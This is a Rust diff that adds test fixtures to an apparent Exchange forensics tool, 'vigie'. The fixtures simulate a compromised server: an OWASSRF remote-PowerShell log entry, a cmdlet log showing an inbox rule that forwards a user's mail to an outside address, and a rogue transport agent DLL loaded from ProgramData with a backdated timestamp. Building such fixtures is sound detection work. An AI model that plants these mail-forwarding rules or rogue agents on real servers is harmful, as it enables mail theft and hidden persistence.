@@ -82,6 +82,79 @@ fn iis_log(rows: &[&str]) -> String {
     s
 }
 
+/// An Exchange CSV log (`#Fields:` header) of `kind`, rows given as
+/// `(field, value)` pairs (other fields empty, values quoted as needed).
+fn exchange_csv(kind: &str, fields: &str, rows: &[&[(&str, &str)]]) -> String {
+    let mut s = format!(
+        "#Software: Microsoft Exchange Server\r\n#Version: 15.02.1118.007\r\n\
+         #Log-type: {kind}\r\n#Fields: {fields}\r\n"
+    );
+    for row in rows {
+        let cells: Vec<String> = fields
+            .split(',')
+            .map(|f| {
+                let v =
+                    row.iter().find(|(k, _)| *k == f).map_or("", |(_, v)| v);
+                if v.contains([',', '"']) {
+                    format!("\"{}\"", v.replace('"', "\"\""))
+                } else {
+                    v.to_string()
+                }
+            })
+            .collect();
+        s.push_str(&cells.join(","));
+        s.push_str("\r\n");
+    }
+    s
+}
+
+/// Rps_Http columns (as CrowdStrike's Rps_Http-IOC script names them).
+const RPS_HTTP_FIELDS: &str = "DateTime,StartTime,RequestId,MajorVersion,\
+MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,UrlHost,UrlStem,\
+AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,\
+ManagedOrganization,ClientIpAddress,ServerHostName,FrontEndServer,HttpStatus,\
+SubStatus,ErrorCode,Action,CommandId,CommandName,SessionId,ShellId,FailFast,\
+ContributeToFailFast,RequestBytes,ClientInfo,CPU,Memory,\
+ActivityContextLifeTime,TotalTime,UrlQuery,GenericLatency,GenericInfo,\
+GenericErrors";
+
+/// Cmdlet log columns (Exchange 2016/2019 `Rps Cmdlet Logs`, abridged to
+/// the ones vigie reads plus their neighbours).
+const CMDLET_FIELDS: &str = "DateTime,StartTime,RequestId,ClientRequestId,\
+ServerHostName,ProcessId,ProcessName,ThreadId,Organization,\
+AuthenticatedUser,ExecutingUserSid,IsAdmin,ClientApplication,Cmdlet,\
+Parameters,ExecutionResult,GenericInfo,GenericErrors";
+
+const RPS_DIR: &str = "Logging/CmdletInfra/Powershell-Proxy";
+
+/// `agents.config` as Exchange writes it, plus any extra `<agent>` lines.
+fn agents_config(extra: &str) -> String {
+    let agent = |name: &str, factory: &str, dll: &str| {
+        format!(
+            "    <agent name=\"{name}\" baseType=\"Microsoft.Exchange.Data.\
+             Transport.Routing.RoutingAgentFactory\" classFactory=\"Microsoft.\
+             Exchange.{factory}\" assemblyPath=\"C:\\Program Files\\Microsoft\\\
+             Exchange Server\\V15\\TransportRoles\\agents\\{dll}.dll\" \
+             enabled=\"true\" />\r\n"
+        )
+    };
+    format!(
+        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<configuration>\r\n  \
+         <mexRuntime>\r\n    <agentList>\r\n{}{}{extra}    </agentList>\r\n    \
+         <settings />\r\n  </mexRuntime>\r\n</configuration>\r\n",
+        agent(
+            "Transport Rule Agent",
+            "MessagingPolicies.TransportRuleAgent.TransportRuleAgentFactory",
+            "Hygiene\\Microsoft.Exchange.MessagingPolicies.TransportRuleAgent",
+        ),
+        agent(
+            "Malware Agent",
+            "Transport.Agent.Malware.MalwareAgentFactory",
+            "Hygiene\\Microsoft.Exchange.Transport.Agent.Malware",
+        ),
+    )
+}
+
 fn write(root: &Path, rel: &str, data: &[u8]) -> anyhow::Result<()> {
     let p = root.join(rel);
     if let Some(dir) = p.parent() {
@@ -225,6 +298,80 @@ pub(super) fn forge_compromised(
     std::fs::create_dir_all(
         root.join("inetpub/wwwroot/aspnet_client/system_web"),
     )?;
+    forge_persistence(root, host)
+}
+
+/// What the intruder came back for in December 2022: an OWASSRF
+/// request to remote PowerShell (the back end's Rps_Http log), the inbox
+/// rule it created (the cmdlet log) and a transport agent loaded from
+/// `ProgramData`.
+fn forge_persistence(root: &Path, host: &str) -> anyhow::Result<()> {
+    let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
+              (KHTML, like Gecko) Chrome/105.0.0.0 Safari/537.36";
+    let rps = exchange_csv(
+        "Rps Http Logs",
+        RPS_HTTP_FIELDS,
+        &[&[
+            ("DateTime", "2022-12-15T10:02:11.208Z"),
+            ("UrlStem", "/powershell"),
+            ("AuthenticationType", "Kerberos"),
+            ("IsAuthenticated", "true"),
+            ("AuthenticatedUser", "CONTOSO\\alice"),
+            ("ClientIpAddress", "198.51.100.23 10.0.0.5"),
+            ("ServerHostName", host),
+            ("FrontEndServer", host),
+            ("HttpStatus", "200"),
+            ("CommandName", "New-InboxRule"),
+            ("ClientInfo", ua),
+        ]],
+    );
+    write(
+        root,
+        &format!("{EXCHANGE}/{RPS_DIR}/Http/Rps_Http_2022121510-1.LOG"),
+        rps.as_bytes(),
+    )?;
+    let cmdlets = exchange_csv(
+        "Rps Cmdlet Logs",
+        CMDLET_FIELDS,
+        &[&[
+            ("DateTime", "2022-12-15T10:02:12.431Z"),
+            ("ServerHostName", host),
+            ("ProcessName", "w3wp#MSExchangePowerShellAppPool"),
+            ("AuthenticatedUser", "CONTOSO\\alice"),
+            (
+                "ExecutingUserSid",
+                "S-1-5-21-1004336348-1177238915-682003330-1108",
+            ),
+            ("IsAdmin", "False"),
+            ("Cmdlet", "New-InboxRule"),
+            (
+                "Parameters",
+                "-Mailbox \"alice\" -Name \".\" -ForwardTo \
+                 \"sync@mail-archive.example\" -StopProcessingRules \"True\"",
+            ),
+            ("ExecutionResult", "Success"),
+            ("GenericInfo", "PSSenderInfo=CONTOSO\\alice;"),
+        ]],
+    );
+    write(
+        root,
+        &format!("{EXCHANGE}/{RPS_DIR}/Cmdlet/Rps_Cmdlet_2022121510-1.LOG"),
+        cmdlets.as_bytes(),
+    )?;
+    let rogue = "    <agent name=\"Exchange Hygiene Agent\" baseType=\"Microsoft.\
+                 Exchange.Data.Transport.Routing.RoutingAgentFactory\" \
+                 classFactory=\"Hygiene.RoutingFactory\" assemblyPath=\"C:\\\
+                 ProgramData\\Microsoft\\Crypto\\hygiene.dll\" enabled=\"true\" />\r\n";
+    let agents = format!("{EXCHANGE}/TransportRoles/Shared/agents.config");
+    write(root, &agents, agents_config(rogue).as_bytes())?;
+    // Dated as the intruder's change (2022-12-15T10:05:00Z), so the
+    // finding sits in the timeline after the OWASSRF request.
+    let changed =
+        std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_671_098_700);
+    std::fs::File::options()
+        .write(true)
+        .open(root.join(&agents))?
+        .set_modified(changed)?;
     Ok(())
 }
 
@@ -233,6 +380,32 @@ pub(super) fn forge_compromised(
 /// (ProxyNotShell/OWASSRF), and show nothing.
 pub(super) fn forge_clean(root: &Path, host: &str) -> anyhow::Result<()> {
     everyday_logs(root, host, (2020, 12), (2023, 1))?;
+    // Exchange's own health probe in the cmdlet log, and the stock
+    // transport agents: the Persistence family has something to judge.
+    let probe = exchange_csv(
+        "Rps Cmdlet Logs",
+        CMDLET_FIELDS,
+        &[&[
+            ("DateTime", "2023-01-11T01:01:19.898Z"),
+            ("ServerHostName", host),
+            ("ProcessName", "w3wp#MSExchangePowerShellAppPool"),
+            ("AuthenticatedUser", "HealthMailbox0c9a1b2"),
+            ("ClientApplication", "ActiveMonitor"),
+            ("Cmdlet", "Get-Mailbox"),
+            ("Parameters", "-ResultSize \"1\""),
+            ("ExecutionResult", "Success"),
+        ]],
+    );
+    write(
+        root,
+        &format!("{EXCHANGE}/{RPS_DIR}/Cmdlet/Rps_Cmdlet_2023011101-1.LOG"),
+        probe.as_bytes(),
+    )?;
+    write(
+        root,
+        &format!("{EXCHANGE}/TransportRoles/Shared/agents.config"),
+        agents_config("").as_bytes(),
+    )?;
     let auth = format!("{EXCHANGE}/FrontEnd/HttpProxy/owa/auth");
     write(root, &format!("{auth}/logon.aspx"), b"<%@ Page %>\r\n")?;
     std::fs::create_dir_all(
